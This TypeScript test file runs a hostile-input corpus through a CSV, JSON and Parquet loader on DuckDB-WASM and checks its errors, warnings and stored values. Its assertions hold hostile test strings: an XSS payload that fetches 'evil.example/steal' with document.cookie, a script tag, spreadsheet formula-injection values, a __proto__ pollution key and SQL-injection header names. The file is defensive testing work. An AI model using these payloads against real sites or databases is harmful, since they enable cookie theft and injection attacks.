// Every file of the hostile-input corpus (test/corpus) through the real loader
// on DuckDB-WASM in Node, on top of two tables loaded before. A file that
// cannot be used gives exactly the message the corpus expects, in English and
// Chinese, with its row or line; a file that loads gives the expected table and
// warnings. Afterwards the earlier tables are unchanged and nothing is left behind.

import { openAsBlob, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Engine } from '../../src/db/engine';
import { openNodeEngine } from '../../src/db/node-engine';
import { loadFile, type LoadedTable, type LoadInput } from '../../src/ingest/load-file';
import { IngestError } from '../../src/ingest/errors';
import { toRows } from '../../src/results/rows';
import { CASES, type CorpusCase } from '../corpus/cases';
import { BASE_DIR, BASE_FILES, FILES_DIR, sha256, writeLargeFiles } from '../corpus/generate';
import { columnTypes, tableNames, tableRows } from '../support/fixtures-ingest';

let engine: Engine;
let large: Record<string, string>;
const base: { table: string; rows: Record<string, unknown>[] }[] = [];

beforeAll(async () => {
  engine = await openNodeEngine();
  for (const name of Object.keys(BASE_FILES)) {
    const t = await loadFile(engine, { name, bytes: new Uint8Array(readFileSync(join(BASE_DIR, name))) });
    base.push({ table: t.table, rows: await tableRows(engine, t.table) });
  }
  large = await writeLargeFiles();
}, 300_000);
afterAll(async () => {
  await engine.close();
});

/** Reads of a Blob, recorded: a file too large for the browser must be refused from its size and first bytes. */
function spied(blob: Blob, reads: string[]): Blob {
  return {
    size: blob.size,
    type: '',
    slice: (a?: number, b?: number) => {
      reads.push(`slice ${a}-${b}`);
      return blob.slice(a, b);
    },
    arrayBuffer: () => {
      reads.push('whole');
      return blob.arrayBuffer();
    },
  } as unknown as Blob;
}

async function inputOf(c: CorpusCase, reads: string[]): Promise<LoadInput> {
  const name = c.name ?? c.file;
  if (!c.large) return { name, bytes: new Uint8Array(readFileSync(join(FILES_DIR, c.file))) };
  const path = large[c.file]!;
  // Files beyond what Node may read whole go in as a Blob over the file, like the browser's File.
  if (statSync(path).size > 256 * 2 ** 20) return { name, file: spied(await openAsBlob(path), reads) };
  return { name, bytes: new Uint8Array(readFileSync(path)) };
}

async function baseIntact(): Promise<void> {
  const names = await tableNames(engine);
  expect(names.filter((n) => n.startsWith('__'))).toEqual([]);
  for (const b of base) expect(await tableRows(engine, b.table)).toEqual(b.rows);
}

describe('the corpus on disk', () => {
  test('has at least 30 files, each matching the manifest and under 5 MiB', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(30);
    const manifest = JSON.parse(readFileSync(join(FILES_DIR, '..', 'manifest.json'), 'utf8')) as { file: string; sha256?: string; size?: number }[];
    expect(manifest.map((m) => m.file)).toEqual(CASES.map((c) => c.file));
    for (const m of manifest.filter((x) => x.sha256)) {
      const bytes = readFileSync(join(FILES_DIR, m.file));
      expect([m.file, bytes.length < 5 * 2 ** 20, sha256(bytes)]).toEqual([m.file, true, m.sha256]);
    }
  });

  test('files built from text alone are exactly what generate.ts writes', async () => {
    for (const c of CASES.filter((x) => x.build && !x.nondeterministic)) {
      expect([c.file, sha256(await c.build!())]).toEqual([c.file, sha256(readFileSync(join(FILES_DIR, c.file)))]);
    }
  });
});

describe.each(CASES.map((c) => [c.file, c] as const))('%s', (_file, c) => {
  test(`${c.wrong} → ${c.error ? `error ${c.error.code}` : 'loads'}`, { timeout: 180_000 }, async () => {
    const reads: string[] = [];
    const input = await inputOf(c, reads);
    const result = await loadFile(engine, input).then(
      (t) => ({ ok: true as const, t }),
      (e: unknown) => ({ ok: false as const, e }),
    );
    await baseIntact();
    if (c.error) {
      expect(result.ok, result.ok ? `loaded ${result.t.rows} rows` : '').toBe(false);
      const e = (result as { e: unknown }).e;
      expect(e).toBeInstanceOf(IngestError);
      const err = e as IngestError;
      expect({ code: err.code, en: err.message, zh: err.text.zh, row: err.row, line: err.line }).toEqual({
        code: c.error.code,
        en: c.error.en,
        zh: c.error.zh,
        row: c.error.row,
        line: c.error.line,
      });
      expect(err.text.en).toBe(err.message);
      expect(err.file).toBe(input.name);
      if (input.file) expect(reads).toEqual(['slice 0-262144']);
      return;
    }
    if (!result.ok) throw result.e;
    await checkLoaded(c, result.t);
  });
});

async function checkLoaded(c: CorpusCase, t: LoadedTable): Promise<void> {
  const want = c.loads!;
  expect(t.rows).toBe(want.rows);
  if (want.columns) expect(Object.keys(await columnTypes(engine, t.table))).toEqual(want.columns);
  expect(t.notices.map((n) => n.id)).toEqual(want.notices);
  expect(t.warnings).toEqual(t.noticeTexts.map((x) => x.en));
  for (const s of want.noticeText ?? []) expect(t.warnings.join('\n')).toContain(s);
  for (const s of want.noticeTextZh ?? []) expect(t.noticeTexts.map((x) => x.zh).join('\n')).toContain(s);
  if (want.delimiter) expect(t.delimiter).toBe(want.delimiter);
  if (want.encoding) expect(t.encoding?.encoding).toBe(want.encoding);
  if (want.values) {
    const keys = Object.keys(want.values[0]!);
    const got = toRows<Record<string, unknown>>(await engine.query(`SELECT ${keys.map((k) => `"${k.replaceAll('"', '""')}"`).join(', ')} FROM "${t.table}" LIMIT ${want.values.length}`));
    expect(got).toEqual(want.values);
  }
  await (EXTRA[c.file] ?? (async () => {}))(t);
}

const sql = async <T extends object>(q: string) => toRows<T>(await engine.query(q));

/** What a few files must also show: the values a product decision fixes. */
const EXTRA: Record<string, (t: LoadedTable) => Promise<void>> = {
  'nan-infinity.csv': async (t) => {
    // NaN is "no value" (empty); ±Infinity, inf, #DIV/0! are not numbers; 1e309, ±1e308, 9.99E+307 are out of range: all missing, text kept; -0 is 0.
    const rows = await sql<{ id: string; v: number | null; raw: string | null; sign: boolean | null }>(
      `SELECT "客户编号" AS id, "销售额" AS v, "销售额__raw" AS raw, signbit("销售额") AS sign FROM "${t.table}" WHERE "客户编号" LIKE 'N%' ORDER BY 1`,
    );
    expect(rows).toEqual([
      { id: 'N01', v: null, raw: 'NaN', sign: null },
      { id: 'N02', v: null, raw: 'Infinity', sign: null },
      { id: 'N03', v: null, raw: '-Infinity', sign: null },
      { id: 'N04', v: null, raw: 'inf', sign: null },
      { id: 'N05', v: null, raw: '#DIV/0!', sign: null },
      { id: 'N06', v: null, raw: '1e309', sign: null },
      { id: 'N07', v: null, raw: '1e308', sign: null },
      { id: 'N08', v: null, raw: '-1e308', sign: null },
      { id: 'N09', v: null, raw: '9.99E+307', sign: null },
      { id: 'N10', v: 0, raw: '-0', sign: false },
    ]);
    const amount = t.columns.find((x) => x.name === '销售额')!;
    expect(amount).toMatchObject({ type: 'number', failed: 8, outOfRange: 4, empty: 1, raw: '销售额__raw' });
    expect(amount.examples).toEqual([
      { row: 23, value: 'Infinity' },
      { row: 24, value: '-Infinity' },
      { row: 25, value: 'inf' },
    ]);
    const [all] = await sql<{ n: number }>(`SELECT CAST(count(*) AS INTEGER) AS n FROM "${t.table}" WHERE NOT isfinite("销售额") OR abs("销售额") >= 1e15`);
    expect(all!.n).toBe(0);
  },
  'negative-zero.csv': async (t) => {
    const [r] = await sql<{ n: number }>(`SELECT CAST(count_if(signbit("销售额")) + count_if(signbit("利润") AND "利润" = 0) AS INTEGER) AS n FROM "${t.table}"`);
    expect(r!.n).toBe(0);
  },
  'extreme-but-valid.csv': async (t) => {
    const rows = await sql<{ v: number }>(`SELECT "销售额" AS v FROM "${t.table}" WHERE "客户编号" LIKE 'E%' ORDER BY "客户编号"`);
    expect(rows.map((r) => r.v)).toEqual([999999999999999, 1e-300, 5e-324, -999999999999999]);
  },
  'infinity.parquet': async (t) => {
    const rows = await sql<{ v: number | null; raw: string | null }>(`SELECT "销售额" AS v, "销售额__raw" AS raw FROM "${t.table}" WHERE "销售额" IS NULL ORDER BY 2`);
    // NaN in a Parquet double is its "no value"; ±Infinity and 1e308 are kept as text.
    expect(rows).toEqual([
      { v: null, raw: '-Infinity' },
      { v: null, raw: '1e+308' },
      { v: null, raw: 'Infinity' },
      { v: null, raw: null },
    ]);
  },
  'html-script-names.csv': async (t) => {
    const names = await sql<{ n: string }>(`SELECT DISTINCT "客户名称" AS n FROM "${t.table}" ORDER BY 1`);
    expect(names.map((r) => r.n)).toContain(`<img src=x onerror="window.__corpusPwned=1;fetch('http://evil.example/steal?c='+document.cookie)">`);
    expect(names.map((r) => r.n)).toContain('<script>window.__corpusPwned=2</script>');
  },
  'rtl-invisible-names.csv': async (t) => {
    const names = await sql<{ n: string }>(`SELECT DISTINCT "客户名称" AS n FROM "${t.table}"`);
    // Values are data: kept exactly, direction marks and all (only header names are cleaned).
    expect(new Set(names.map((r) => r.n))).toEqual(new Set(['\u202e司公限有联华京北', 'شركة الخليج للتجارة', 'חברת הסחר בע״מ', '北京\u200b华联', '👨\u200d👩\u200d👧 家庭商店', 'abc\u2066def\u2069ghi']));
  },
  'emoji-names.csv': async (t) => {
    const names = await sql<{ n: string }>(`SELECT DISTINCT "客户名称 🏷️" AS n FROM "${t.table}"`);
    expect(new Set(names.map((r) => r.n))).toEqual(new Set(['🏢 华联商厦', '🇨🇳 中国贸易', '👍🏽 好评客户', '𠀀𠀁 古字号', '👩\u200d💻 软件工作室']));
  },
  'formula-injection.csv': async (t) => {
    // The table keeps the text as it was: neutralising is the export's job.
    const ids = await sql<{ id: string }>(`SELECT DISTINCT "客户编号" AS id FROM "${t.table}" WHERE "客户编号" NOT LIKE 'K%' ORDER BY 1`);
    expect(ids.map((r) => r.id)).toEqual(['+K999', '=1+1']);
    const names = await sql<{ n: string }>(`SELECT DISTINCT "客户名称" AS n FROM "${t.table}"`);
    expect(names.map((r) => r.n)).toContain('\r=1+1');
  },
  'prototype-keys.json': async (t) => {
    const [r] = await sql<{ p: string; c: string }>(`SELECT "__proto__" AS p, "constructor" AS c FROM "${t.table}"`);
    expect(r).toEqual({ p: '{"polluted":true}', c: 'c' });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  },
  'hostile-headers.csv': async (t) => {
    const [r] = await sql<Record<string, unknown>>(`SELECT * FROM "${t.table}" LIMIT 1`);
    expect(r).toMatchObject({ 客户编号: 'K001', 'SELECT': 1, '"; DROP TABLE base_orders; --': 2, "' OR '1'='1": 3, __row: 4, c1: 5, rowid: 6, 销售额: 1200 });
  },
};
